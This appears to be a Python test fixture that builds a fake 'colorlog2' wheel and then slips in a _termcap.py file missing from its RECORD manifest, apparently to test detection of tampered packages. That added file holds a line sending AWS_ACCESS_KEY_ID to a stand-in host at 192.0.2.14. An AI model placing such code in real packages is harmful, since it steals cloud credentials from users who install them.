import base64
import hashlib


def _row(path, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}\n"


_package = {
    "colorlog2/__init__.py": b"from .formatter import Formatter\n",
    "colorlog2/formatter.py": b"import logging\n\n\nclass Formatter(logging.Formatter):\n    pass\n",
    "colorlog2-6.8.2.dist-info/METADATA": b"Metadata-Version: 2.1\nName: colorlog2\nVersion: 6.8.2\n",
}
_record = "".join(_row(p, d) for p, d in _package.items()) + "colorlog2-6.8.2.dist-info/RECORD,,\n"
_added = b"import os\nimport urllib.request\n\nurllib.request.urlopen('http://192.0.2.14/' + os.environ.get('AWS_ACCESS_KEY_ID', ''))\n"

FILES: dict[str, bytes] = {f"python/{p}": d for p, d in _package.items()}
FILES["python/colorlog2-6.8.2.dist-info/RECORD"] = _record.encode()
FILES["python/colorlog2/_termcap.py"] = _added
